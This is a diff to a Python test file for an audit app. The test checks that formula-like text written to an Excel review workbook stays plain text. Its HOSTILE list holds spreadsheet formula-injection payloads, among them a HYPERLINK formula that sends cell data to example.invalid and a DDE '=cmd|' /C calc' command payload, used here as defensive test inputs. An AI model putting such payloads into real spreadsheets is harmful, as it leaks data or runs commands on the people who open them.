@@ -21,7 +21,8 @@ from audit_app.services.figures import FigureService
 from audit_app.storage.db import Database
 from tests.figure_data import seed_utredning
 
-# XML reads a lone CR back as LF: the text is the same, not a formula either way
+# A lone CR comes back as CR (written as &#13;, as openpyxl does with lxml) or as LF (plain
+# XML): the text is the same either way, and never a formula.
 HOSTILE = ('=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")', "+1+2", "-3-4", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "#N/A", "=cmd|' /C calc'!A0")
 
@@ -59,12 +60,13 @@ def test_review_workbook_stores_formula_like_text_as_text(library: ChecklistLibr
     cases = [WorkbookCase(text, text, comments={"viewpoint": text}) for text in HOSTILE]
     write_review_workbook(path, checklist, HOSTILE[0], "uid-1", "0" * 64, cases)
     _no_formulas(path)
-    values = set(_texts(path).values())
+    values = {v.replace("\r", "\n") for v in _texts(path).values()}
     assert set(READ_BACK) <= values
     assert "=1+1 fråga *" in values  # the question's header
     assert any(HOSTILE[0] in v for v in values)  # the round name in the instructions
     ws = openpyxl.load_workbook(path)["Granskning"]
-    assert [ws.cell(r, 1).value for r in range(3, 3 + len(HOSTILE))] == list(READ_BACK)
+    assert [str(ws.cell(r, 1).value).replace("\r", "\n")
+            for r in range(3, 3 + len(HOSTILE))] == list(READ_BACK)
 
 
 @pytest.fixture
